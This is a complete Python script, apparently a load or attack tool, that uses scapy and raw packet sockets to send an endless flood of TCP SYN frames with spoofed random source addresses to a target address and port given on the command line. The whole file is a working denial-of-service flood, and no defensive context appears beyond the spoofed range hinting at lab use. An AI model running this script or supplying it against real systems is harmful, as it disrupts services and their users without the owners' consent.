# SPDX-License-Identifier: Apache-2.0
"""SYNs from random addresses. `syn_flood.py NIC GATEWAY_MAC ADDRESS PORT`: as many a second as one process can send."""

from __future__ import annotations

import random
import socket
import sys

from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import Ether

FRAMES = 4096


def main() -> None:
    nic, mac, address, port = sys.argv[1:]
    frames = [bytes(Ether(dst=mac) / IP(src=source(), dst=address) / random_syn(int(port))) for _ in range(FRAMES)]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sending:
        sending.bind((nic, 0))
        while True:
            for frame in frames:
                sending.send(frame)


def source() -> str:
    return f"198.{random.randint(18, 19)}.{random.randint(0, 255)}.{random.randint(1, 254)}"


def random_syn(port: int) -> TCP:
    return TCP(sport=random.randint(1024, 65535), dport=port, flags="S", seq=random.getrandbits(32))


if __name__ == "__main__":
    main()
